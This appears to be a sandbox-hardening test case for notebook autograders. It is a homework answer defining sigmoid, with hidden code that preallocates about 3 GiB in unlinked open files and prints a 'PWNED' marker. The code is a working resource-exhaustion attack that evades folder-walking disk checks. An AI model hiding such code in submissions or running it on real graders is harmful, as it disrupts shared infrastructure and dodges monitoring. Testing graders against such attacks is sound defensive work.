# /// case
# about = "right answers, and three GiB on disk in files that are open and have no name any more"
# kind = "deny"
# promise = 4
# succeeds_at = ["nbgrader", "otter", "tier0"]
# ///
# %% sigmoid
# who measures a folder by walking through it does not find them
import os
import time

def _fill(gib=3, piece=48 * 2**20):
    kept = []
    try:
        while len(kept) * piece < gib * 2**30:
            kept.append(os.open("block", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600))
            os.unlink("block")
            os.posix_fallocate(kept[-1], 0, piece)
        time.sleep(3)
        return True
    except OSError:
        return False
    finally:
        for descriptor in kept:
            os.close(descriptor)

if _fill():
    print(":".join(["PWNED", "attack/disk_flood_unlinked"]))

def sigmoid(x, w=1.0, b=0.0):
    return 0.5 * (1 + np.tanh((w * np.asarray(x) + b) / 2))
